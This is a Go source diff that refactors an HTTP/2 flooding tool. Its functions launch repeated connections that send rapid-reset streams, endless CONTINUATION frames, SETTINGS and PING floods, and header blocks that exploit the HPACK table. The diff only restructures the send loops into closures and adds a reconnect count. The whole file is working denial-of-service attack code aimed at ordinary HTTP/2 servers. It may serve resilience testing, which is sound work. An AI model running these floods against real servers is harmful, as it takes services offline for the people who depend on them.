@@ -9,26 +9,29 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-const frameBytes = 16 * 1024
+const (
+	frameBytes = 16 * 1024
+	// Each connects again as soon as it is closed.
+	frameConnections = 10
+)
 
 // Calls that are reset at once. With a token they are of a caller with a grant.
 func resets(f *flood) {
-	f.attack(attack{connections: 10, unit: "resets", write: func(c *connection) error {
+	f.attack(attack{unit: "resets", begin: func(c *connection) func() error {
 		all := newBlocks(f)
 		block := all.next(f.token)
-		for id := uint32(1); ; id += 2 {
+		id := uint32(1)
+		return func() error {
 			headers := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}
 			if err := c.WriteHeaders(headers); err != nil {
 				return err
 			}
-			if err := c.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
-				return err
-			}
-			c.sent++
 			if id == 1 {
 				// All of it is in the table by now, and each block the same few bytes.
 				block = bytes.Clone(all.next(f.token))
 			}
+			id += 2
+			return c.WriteRSTStream(id-2, http2.ErrCodeCancel)
 		}
 	}})
 }
@@ -40,39 +43,25 @@ func continuation(f *flood) {
 	for fields.Len() < frameBytes-100 {
 		_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: "some value", Sensitive: true})
 	}
-	f.attack(attack{connections: 10, unit: "CONTINUATION frames", write: func(c *connection) error {
-		block := newBlocks(f).next("")
-		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}); err != nil {
-			return err
+	f.attack(attack{unit: "CONTINUATION frames", begin: func(c *connection) func() error {
+		headers := http2.HeadersFrameParam{StreamID: 1, BlockFragment: newBlocks(f).next("")}
+		if err := c.WriteHeaders(headers); err != nil {
+			return func() error { return err }
 		}
-		for {
-			if err := c.WriteContinuation(1, false, fields.Bytes()); err != nil {
-				return err
-			}
-			c.sent++
-		}
+		return func() error { return c.WriteContinuation(1, false, fields.Bytes()) }
 	}})
 }
 
 func settings(f *flood, reads bool) {
-	f.attack(attack{connections: 10, unit: "SETTINGS frames", deaf: !reads, write: func(c *connection) error {
-		for {
-			if err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535}); err != nil {
-				return err
-			}
-			c.sent++
-		}
+	setting := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535}
+	f.attack(attack{unit: "SETTINGS frames", deaf: !reads, begin: func(c *connection) func() error {
+		return func() error { return c.WriteSettings(setting) }
 	}})
 }
 
 func pings(f *flood, reads bool) {
-	f.attack(attack{connections: 10, unit: "PING frames", deaf: !reads, write: func(c *connection) error {
-		for {
-			if err := c.WritePing(false, [8]byte{}); err != nil {
-				return err
-			}
-			c.sent++
-		}
+	f.attack(attack{unit: "PING frames", deaf: !reads, begin: func(c *connection) func() error {
+		return func() error { return c.WritePing(false, [8]byte{}) }
 	}})
 }
 
@@ -85,9 +74,10 @@ func headers(f *flood) {
 	references := bytes.Repeat([]byte{reference}, frameBytes)
 	first := pseudoHeaders(f, hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_000)})
 	later := pseudoHeaders(f)
-	f.attack(attack{connections: 10, unit: "header blocks", write: func(c *connection) error {
+	f.attack(attack{unit: "header blocks", begin: func(c *connection) func() error {
 		block := first
-		for id := uint32(1); ; id += 2 {
+		id := uint32(1)
+		return func() error {
 			frame := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true}
 			if err := c.WriteHeaders(frame); err != nil {
 				return err
@@ -97,8 +87,9 @@ func headers(f *flood) {
 					return err
 				}
 			}
-			c.sent++
 			block = later
+			id += 2
+			return nil
 		}
 	}})
 }
